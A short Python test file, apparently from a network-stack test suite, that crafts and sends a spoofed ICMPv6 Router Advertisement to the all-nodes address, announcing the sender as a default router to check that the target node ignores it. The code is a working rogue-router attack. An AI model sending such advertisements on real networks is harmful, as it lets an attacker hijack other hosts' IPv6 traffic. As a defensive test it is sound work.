# SPDX-License-Identifier: Apache-2.0
"""Being the router of the node.

unheard: it stays on the link: what counts is that the node believes nothing
recorded: 6=~router
"""
from attack import attempt, icmp6


def way(a):
    body = bytes([64, 0, 0x0e, 0x10]) + bytes(8) + b'\x01\x01' + a.mac
    a.frame(a.packet(58, icmp6(134, 0, body, a.link_local, 'ff02::1'), a.link_local, 'ff02::1', hops=255), to=b'\x33\x33\0\0\0\x01')


attempt(way, (6,))
